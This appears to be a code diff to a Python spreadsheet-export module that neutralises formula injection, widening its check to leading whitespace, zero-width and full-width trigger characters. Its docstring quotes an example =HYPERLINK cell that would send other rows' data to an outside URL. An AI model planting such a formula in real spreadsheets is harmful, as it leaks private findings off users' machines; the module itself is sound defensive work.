@@ -1,24 +1,26 @@
 """Tables a person opens in a spreadsheet (rater packets, evaluation examples, quarantines): report and model text
 never becomes a live formula. A cell starting with = + - @ tab or CR runs as a formula in Excel and LibreOffice
 (`=HYPERLINK("http://…?d="&B3)` would send other cases' findings off the rater's machine; `- Heart size normal.`
-shows as #NAME?).
+shows as #NAME?). Spreadsheets skip leading spaces, line breaks, a BOM and zero-width characters and read the
+full-width ＝ ＋ － ＠ as = + - @, so a cell whose first other character is one of these counts too.
 - CSV: such a cell gets a leading apostrophe (OWASP's mitigation), the one change to the text; every text cell is
   quoted (Python's csv writer leaves a lone CR unquoted, which splits the row for every reader).
 - XLSX: every text cell is written as a string cell, so the text shows exactly as written.
 """
 
 import csv
+import re
 from pathlib import Path
 
 import pandas as pd
 from openpyxl import Workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_START = re.compile("[\t\r]|[\\s\ufeff\u200b-\u200d\u2060]*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
 
 
 def neutralised(value):
-    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value
+    return "'" + value if isinstance(value, str) and FORMULA_START.match(value) else value
 
 
 def write_csv(frame: pd.DataFrame, path: Path) -> Path:
